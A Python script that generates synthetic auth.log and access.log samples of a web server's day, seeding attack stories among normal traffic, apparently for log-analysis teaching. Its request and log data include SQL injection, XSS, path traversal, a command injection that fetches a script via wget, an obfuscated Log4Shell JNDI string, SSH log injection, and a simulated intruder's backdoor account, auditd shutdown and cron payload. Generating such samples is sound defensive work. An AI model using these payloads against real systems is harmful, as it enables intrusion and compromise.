#!/usr/bin/env python3
"""Writes the bundled sample logs, auth.log and access.log, beside this file.

One day on a small web server: people at work, cron, crawlers and health checks, and among them the attack stories that README.md
tells. Same script, same bytes, on any Python 3: only Random.random() is used. All addresses are reserved for documentation.
SPDX-License-Identifier: MIT
"""
import os
import random

HOST = "web01"
HERE = os.path.dirname(os.path.abspath(__file__))
draw = random.Random(20260105).random


def number(below):
    return int(draw() * below)


def pick(items):
    return items[number(len(items))]


def clock(text):
    """Seconds of the day from "hh:mm[:ss]"."""
    parts = [int(x) for x in text.split(":")] + [0]
    return parts[0] * 3600 + parts[1] * 60 + parts[2]


class Log:
    def __init__(self):
        self.lines = []

    def add(self, second, text):
        self.lines.append((second, len(self.lines), text))

    def write(self, name, form):
        """`form` gets the second, a count of the lines within it, and what was added."""
        with open(os.path.join(HERE, name), "w", encoding="utf-8", newline="\n") as file:
            previous, count = -1, 0
            for second, _, text in sorted(self.lines):
                count = count + 1 if second == previous else 0
                previous = second
                file.write(form(second, count, text) + "\n")


# ---- auth.log ------------------------------------------------------------------------------------------------------

auth = Log()
pid = 900


def next_pid():
    global pid
    pid += 1 + number(4)
    return pid


def ssh(second, text, process=None):
    auth.add(second, "sshd[%d]: %s" % (process or next_pid(), text))


def failed(second, user, ip, known=False, process=None):
    """One failed password, with the lines that sshd and PAM write about it."""
    p, port = process or next_pid(), 30000 + number(30000)
    if not known:
        ssh(second, "Invalid user %s from %s port %d" % (user, ip, port), p)
        ssh(second, "pam_unix(sshd:auth): check pass; user unknown", p)
    tail = "  user=%s" % user if known else " "
    ssh(second, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s%s" % (ip, tail), p)
    ssh(second + 2, "Failed password for %s%s from %s port %d ssh2" % ("" if known else "invalid user ", user, ip, port), p)
    kind = "authenticating" if known else "invalid"
    ssh(second + 3, "Connection closed by %s user %s %s port %d [preauth]" % (kind, user, ip, port), p)


def session(second, user, ip, method="publickey", minutes=20, commands=()):
    p, port, uid = next_pid(), 30000 + number(30000), 0 if user == "root" else 1000 + len(user)
    key = ": ED25519 SHA256:4n9kVw0m7sPzqT2cYb8rXe1uJfLhGaDiKoRtNxQyMvE" if method == "publickey" else ""
    ssh(second, "Accepted %s for %s from %s port %d ssh2%s" % (method, user, ip, port, key), p)
    ssh(second, "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid), p)
    for offset, command in commands:
        sudo(second + offset, user, "TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (user, command))
    end = second + minutes * 60
    ssh(end, "Received disconnect from %s port %d:11: disconnected by user" % (ip, port), p)
    ssh(end, "Disconnected from user %s %s port %d" % (user, ip, port), p)
    ssh(end, "pam_unix(sshd:session): session closed for user %s" % user, p)


def sudo(second, user, text):
    auth.add(second, "sudo: %8s : %s" % (user, text))


def firewall(second, source, port):
    auth.add(second, "kernel: [%d.%06d] [UFW BLOCK] IN=eth0 OUT= MAC=02:00:00:00:00:0a:02:00:00:00:00:01:08:00 SRC=%s DST=203.0.113.10 LEN=44 "
             "TOS=0x00 PREC=0x00 TTL=48 ID=%d PROTO=TCP SPT=51234 DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0"
             % (second, number(999999), source, number(60000), port))


def ordinary_day():
    for hour in range(24):
        p = next_pid()
        auth.add(hour * 3600 + 17 * 60, "CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)" % p)
        auth.add(hour * 3600 + 17 * 60, "CRON[%d]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)" % p)
        auth.add(hour * 3600 + 17 * 60 + 1, "CRON[%d]: pam_unix(cron:session): session closed for user root" % p)
    session(clock("08:04"), "alice", "198.51.100.10", commands=[(40, "/usr/bin/apt update"), (95, "/usr/bin/apt upgrade")])
    session(clock("09:12"), "bob", "198.51.100.11", commands=[(30, "/usr/bin/systemctl restart nginx")])
    session(clock("13:40"), "alice", "198.51.100.10", minutes=45, commands=[(300, "/usr/bin/journalctl -u nginx")])
    session(clock("16:25"), "dave", "2001:db8:10::21", minutes=12)
    # Carol mistypes her password, as people do, and gets in.
    failed(clock("10:31"), "carol", "198.51.100.12", known=True)
    session(clock("10:31:20"), "carol", "198.51.100.12", method="password", minutes=90)


def stories():
    # 1 Somebody guesses root's password as fast as sshd answers.
    for i in range(8):
        failed(clock("01:10") + i * 9, "root", "192.0.2.23", known=True)
    # 2 Patient: one name every fifty minutes, all day.
    for i, name in enumerate("oracle postgres git hadoop ubuntu deploy jenkins test backup minecraft".split()):
        failed(clock("02:05") + i * 3000, name, "203.0.113.45")
    # 3 One password for many accounts.
    for i, name in enumerate("alice bob carol dave frank".split()):
        failed(clock("03:20") + i * 240, name, "192.0.2.88", known=name != "frank")
    # 4 A network of addresses, each of which tries once.
    for i in range(6):
        failed(clock("05:02") + i * 25, "admin", "2001:db8:bad:1::%x" % (0x10 + i * 7))
    # 5 The user name is the weapon: it names an innocent address. The guesser is 203.0.113.7.
    for i in range(5):
        failed(clock("06:44") + i * 20, "root from 198.51.100.10 port 22 ssh2", "203.0.113.7")
    # 6 Banner collectors.
    for i, hour in enumerate(("04:11", "11:27", "19:55")):
        ssh(clock(hour), "banner exchange: Connection from 192.0.2.130 port %d: invalid format" % (40000 + i))
    ssh(clock("12:02"), "Unable to negotiate with 192.0.2.131 port 55222: no matching key exchange method found. Their offer: "
        "diffie-hellman-group1-sha1 [preauth]")
    # 7 A port scan that the firewall saw.
    for i, port in enumerate((21, 22, 23, 25, 80, 110, 135, 139, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 9200)):
        firewall(clock("07:33") + i * 2, "192.0.2.61", port)
    # 8 Guessed right: dave's password falls at the ninth try, and the intruder settles in.
    for i in range(8):
        failed(clock("20:14") + i * 6, "dave", "203.0.113.99", known=True)
    session(clock("20:15:10"), "dave", "203.0.113.99", method="password", minutes=25, commands=[(60, "/bin/bash")])
    p = next_pid()
    auth.add(clock("20:18:02"), "useradd[%d]: new user: name=svc-update, UID=1012, GID=1012, home=/home/svc-update, shell=/bin/bash, "
             "from=/dev/pts/0" % p)
    auth.add(clock("20:18:09"), "usermod[%d]: add 'svc-update' to group 'sudo'" % next_pid())
    auth.add(clock("20:18:09"), "usermod[%d]: add 'svc-update' to shadow group 'sudo'" % pid)
    auth.add(clock("20:19:30"), "systemd[1]: Stopped auditd.service - Security Auditing Service.")
    auth.add(clock("20:21:00"), "crontab[%d]: (root) REPLACE (root)" % next_pid())
    for i in range(3):
        auth.add(clock("20:25:01") + i * 300, "CRON[%d]: (root) CMD (/dev/shm/.cache/run >/dev/null 2>&1)" % next_pid())
    # 9 The web server's account, which has no business with sudo or su.
    sudo(clock("15:03"), "www-data", "user NOT in sudoers ; TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/usr/bin/id")
    auth.add(clock("15:04"), "su[%d]: FAILED SU (to root) www-data on none" % next_pid())
    # 10 Bob left his desk: somebody else tries his sudo.
    for i in range(2):
        sudo(clock("12:48") + i * 50, "bob", "3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash")
    # 11 syslog folded five identical lines into one; they are still five.
    ssh(clock("22:31"), "message repeated 5 times: [ Failed password for root from 192.0.2.150 port 42110 ssh2]")


# ---- access.log ----------------------------------------------------------------------------------------------------

access = Log()
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0.0.0 Safari/537.36", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Firefox/133.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) Mobile/15E148 Safari/604.1"]
CRAWLER = "Mozilla/5.0 (compatible; examplebot/1.0; +https://www.example.org/bot)"


def request(second, ip, line, status, size=512, agent=BROWSERS[0], referrer="-"):
    access.add(second, (ip, line, status, size, referrer, agent))


def get(second, ip, path, status, **more):
    request(second, ip, "GET %s HTTP/1.1" % path, status, **more)


def visitors():
    pages = ["/", "/about", "/products", "/products/17", "/blog/", "/blog/rust-and-roses", "/contact", "/login"]
    assets = ["/static/app.js", "/static/app.css", "/img/logo.svg", "/favicon.ico"]
    for _ in range(22):
        ip = pick(["198.51.100.%d" % (20 + number(180)), "2001:db8:20:%x::%x" % (number(4096), 1 + number(4096))])
        second, agent = clock("06:00") + number(15 * 3600), pick(BROWSERS)
        for i in range(1 + number(3)):
            get(second, ip, pick(pages), 200, size=4000 + number(20000), agent=agent)
            for asset in assets[: 1 + number(4)]:
                get(second + 1, ip, asset, 200 if number(12) else 404, size=900 + number(50000), agent=agent)
            second += 10 + number(60)
    for i in range(24):
        get(i * 3600 + 300, "198.51.100.5", "/health", 200, size=2, agent="curl/8.5.0")
        get(i * 3600 + 1500, "198.51.100.200", "/blog/%d" % (1000 + number(400)), 200 if number(6) else 404, agent=CRAWLER)
    # A colleague who mistypes twice.
    for i, status in enumerate((401, 401, 200)):
        request(clock("11:02") + i * 20, "198.51.100.14", "POST /api/login HTTP/1.1", status)


def web_stories():
    # a Looks for forgotten files, fast.
    probes = "/.env /.git/config /wp-login.php /phpmyadmin/ /backup.zip /db.sql /shell.php /actuator/env /.aws/credentials /phpinfo.php".split()
    for i, path in enumerate(probes):
        get(clock("02:40") + i, "192.0.2.44", path, 404, agent="python-requests/2.31.0")
    # b The same, one request every twenty minutes.
    for i, path in enumerate("/xmlrpc.php /.git/HEAD /old/ /web.config /solr/admin/info/system /test.php /cgi-bin/luci /.DS_Store".split()):
        get(clock("03:00") + i * 1200, "203.0.113.51", path, 404)
    # c Works through a list of injections.
    for i, path in enumerate(["/?id=1'%20OR%201=1--", "/products?id=1+UNION+SELECT+1,2,3,password+FROM+users--",
                              "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/../../../../etc/passwd",
                              "/ping?host=127.0.0.1;wget+http://192.0.2.200/x.sh"]):
        get(clock("04:20") + i * 3, "192.0.2.52", path, 400 if "etc" in path else 404)
    # d Log4Shell, disguised, in the user agent.
    get(clock("05:31"), "192.0.2.53", "/", 200, agent="${${lower:j}ndi:${lower:l}dap://192.0.2.200:1389/a}")
    # e Guesses WordPress passwords: a wrong one is answered with 200.
    for i in range(14):
        request(clock("09:15") + i * 2, "203.0.113.54", "POST /wp-login.php HTTP/1.1", 200, size=4021)
    # f Stolen passwords tried at the API.
    for i in range(13):
        request(clock("13:37") + i * 4, "192.0.2.55", "POST /api/login HTTP/1.1", 401, size=44, agent="Go-http-client/1.1")
    # g A tool that says its name.
    get(clock("14:01"), "192.0.2.56", "/", 200, agent="sqlmap/1.8.4#stable (https://sqlmap.org)")
    # h Things that are not HTTP.
    request(clock("08:12"), "192.0.2.57", r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03", 400, size=157, agent="-")
    request(clock("08:13"), "192.0.2.58", r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400, size=157, agent="-")
    # i A word list.
    words = ("admin api app archive assets auth beta bin build cache cgi ci code conf core css data demo dev dist docs dump etc export files git "
             "help home hidden include").split()
    for i, word in enumerate(words):
        get(clock("16:44") + i * 2, "2001:db8:bad:2::%x" % (1 + number(200)), "/" + word, 404)
    # j Looks for an open proxy.
    request(clock("17:20"), "192.0.2.59", "CONNECT www.example.net:443 HTTP/1.1", 405)
    # k The one that hurts: the repository's file was there.
    get(clock("18:05"), "192.0.2.60", "/.git/HEAD", 200, size=23)


def main():
    ordinary_day()
    stories()
    visitors()
    web_stories()
    auth.write("auth.log", lambda s, i, text: "2026-01-05T%02d:%02d:%02d.%06d+00:00 %s %s"
               % (s // 3600, s // 60 % 60, s % 60, 1871 + i * 2113, HOST, text))
    access.write("access.log", lambda s, _, r: '%s - - [05/Jan/2026:%02d:%02d:%02d +0000] "%s" %d %d "%s" "%s"'
                 % (r[0], s // 3600, s // 60 % 60, s % 60, r[1], r[2], r[3], r[4], r[5]))


if __name__ == "__main__":
    main()
